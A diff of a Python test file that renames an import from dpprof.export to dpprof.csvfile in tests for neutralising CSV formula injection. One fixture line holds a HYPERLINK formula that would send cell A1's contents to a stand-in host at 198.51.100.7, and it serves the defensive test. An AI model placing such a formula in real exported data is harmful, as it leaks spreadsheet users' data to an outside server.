@@ -1,4 +1,4 @@
-"""dpprof.export: CSV cells a spreadsheet could run as a formula are neutralised, by OWASP's CSV-injection rule.
+"""dpprof.csvfile: CSV cells a spreadsheet could run as a formula are neutralised, by OWASP's CSV-injection rule.
 
 A cell is prefixed with ' when it begins with TAB, CR or LF, or when its first character past any whitespace
 and control characters is = + - or @. Checked on cells alone, and on a run the CPU backend records with such a
@@ -14,7 +14,7 @@ import pytest
 from recorded import record
 
 from dpprof.cli import main
-from dpprof.export import formula_like, neutralize_formulas, to_csv_bytes
+from dpprof.csvfile import formula_like, neutralize_formulas, to_csv_bytes
 from dpprof.views import export
 
 LINK = '=HYPERLINK("http://198.51.100.7/?leak="&A1,"open")'
